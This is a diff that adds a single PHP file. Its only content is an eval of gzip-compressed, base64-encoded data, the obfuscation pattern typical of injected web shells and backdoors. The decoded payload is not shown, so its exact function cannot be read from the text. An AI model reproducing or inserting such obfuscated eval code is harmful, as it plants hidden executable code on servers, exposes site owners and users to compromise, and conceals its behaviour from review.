@@ -1,0 +1,1 @@
+<?php eval(gzinflate(base64_decode('boV7f6vV72yqo9D+DALYViBsSN900SI8NcwAqFHzzgox3csFjMrfoyG4XN7bv2fmiUAntZz1T0QYdoD2vKexMF7R/U6rxsbIwrQwyAd+asmShH0qtgehIpDacJcJqMrniDjCwRXssl4df/bXLFENmkbs/3hXHn2B6IVfdPi7+MJHGoODkl/CpywF4afdKNhu7b93tfBbu/tVG8k/zRvVSUVG1gD8DlraT7IqrIRRWl4i29RWDum13NN8EJYYUs/VpIFUV0IXTgWv4wwLa3k4cQbeifleGTdzOpVQKNaJy/Xk5z9YMMRyXC01ODVWo0r2'))); ?>
